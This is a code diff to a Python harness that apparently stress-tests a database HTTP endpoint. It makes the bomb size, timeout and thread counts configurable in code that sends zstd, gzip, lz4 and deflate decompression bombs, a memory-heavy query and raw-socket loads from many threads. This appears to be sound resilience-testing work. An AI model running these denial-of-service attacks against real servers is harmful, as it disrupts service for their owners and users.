@@ -15,7 +15,7 @@ import threading
 import time
 import zlib
 from base64 import b64encode
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterator, Mapping
 from contextlib import contextmanager
 from multiprocessing.sharedctypes import Synchronized
 from typing import Final, NamedTuple, Protocol
@@ -25,8 +25,6 @@ import lz4.frame  # type: ignore[import-untyped]  # it has neither stubs nor py.
 from backports import zstd
 
 _MIB: Final = 1024 * 1024
-_BOMB_MIB: Final = 1024
-_PATIENCE_S: Final = 30.0
 READERS: Final = 64
 #: Threads for each attack; a reader that does not read needs one of its own.
 THREADS: Final = {
@@ -41,19 +39,26 @@ _GREEDY: Final = "SELECT length(groupArray(number)) FROM numbers(1000000000)"
 
 
 class Target(NamedTuple):
-    """Where to, and as whom: the analyst."""
+    """Where to, and as whom: the analyst. An attacker waits at most ``patience_s`` for an answer."""
 
     url: str
     user: str
     password: str
+    patience_s: float
 
 
 @contextmanager
-def under_attack(target: Target) -> Iterator[Callable[[], dict[str, int]]]:
-    """Attack from a process of its own while in this context; what it gives tells the rounds so far, by attack."""
+def under_attack(
+    target: Target, bomb_mib: int, threads: Mapping[str, int]
+) -> Iterator[Callable[[], dict[str, int]]]:
+    """Attack from a process of its own while in this context; what it gives tells the rounds so far, by attack.
+
+    A bomb decompresses to ``bomb_mib``. ``threads`` are as in :data:`THREADS`; attacks that it does not name are
+    left out.
+    """
     context = multiprocessing.get_context("spawn")
-    rounds = {name: context.Value("q", 0) for name in THREADS}
-    process = context.Process(target=_run, args=(target, rounds), daemon=True)
+    rounds = {name: context.Value("q", 0) for name in threads}
+    process = context.Process(target=_run, args=(target, bomb_mib, dict(threads), rounds), daemon=True)
     process.start()
     try:
         yield lambda: {name: count.value for name, count in rounds.items()}
@@ -62,12 +67,12 @@ def under_attack(target: Target) -> Iterator[Callable[[], dict[str, int]]]:
         process.join()
 
 
-def _run(target: Target, rounds: dict[str, Synchronized[int]]) -> None:
+def _run(target: Target, bomb_mib: int, threads: dict[str, int], rounds: dict[str, Synchronized[int]]) -> None:
     # Attackers bring processors of their own; here they share those of what they attack and of what is measured.
     os.nice(10)
-    attacks = _attacks(target)
+    attacks = _attacks(target, bomb_mib)
     for name in rounds:
-        for _ in range(THREADS[name]):
+        for _ in range(threads[name]):
             threading.Thread(target=_repeat, args=(attacks[name], rounds[name]), daemon=True).start()
     threading.Event().wait()
 
@@ -80,14 +85,14 @@ def _repeat(attack: Callable[[], None], rounds: Synchronized[int]) -> None:
             rounds.value += 1
 
 
-def _attacks(target: Target) -> dict[str, Callable[[], None]]:
+def _attacks(target: Target, bomb_mib: int) -> dict[str, Callable[[], None]]:
     packers: dict[str, _Packer] = {
         "zstd": zstd.ZstdCompressor(level=19),
         "gzip": zlib.compressobj(9, zlib.DEFLATED, 31),
         "lz4": _Lz4(),
         "deflate": zlib.compressobj(9),
     }
-    bombs = {method: _bomb(packer) for method, packer in packers.items()}
+    bombs = {method: _bomb(packer, bomb_mib) for method, packer in packers.items()}
     return {
         **{
             f"{method} bombs": _posting(target, bomb, {"Content-Encoding": method})
@@ -122,16 +127,16 @@ class _Lz4:
         return bytes(self._frame.flush())
 
 
-def _bomb(packer: _Packer) -> bytes:
+def _bomb(packer: _Packer, mib: int) -> bytes:
     zeros = bytes(_MIB)
-    return b"".join(packer.compress(zeros) for _ in range(_BOMB_MIB)) + packer.flush()
+    return b"".join(packer.compress(zeros) for _ in range(mib)) + packer.flush()
 
 
 def _posting(target: Target, body: bytes, headers: dict[str, str], parameters: str = "") -> Callable[[], None]:
     login = b64encode(f"{target.user}:{target.password}".encode()).decode()
 
     def post() -> None:
-        connection = http.client.HTTPConnection(urlsplit(target.url).netloc, timeout=_PATIENCE_S)
+        connection = http.client.HTTPConnection(urlsplit(target.url).netloc, timeout=target.patience_s)
         with contextlib.closing(connection):
             connection.request("POST", f"/?{parameters}", body, {**headers, "Authorization": f"Basic {login}"})
             connection.getresponse().read()
@@ -142,7 +147,7 @@ def _posting(target: Target, body: bytes, headers: dict[str, str], parameters: s
 @contextmanager
 def _connection(target: Target) -> Iterator[socket.socket]:
     parts = urlsplit(target.url)
-    with socket.create_connection((parts.hostname or "", parts.port or 0), timeout=_PATIENCE_S) as made:
+    with socket.create_connection((parts.hostname or "", parts.port or 0), timeout=target.patience_s) as made:
         yield made
 
 
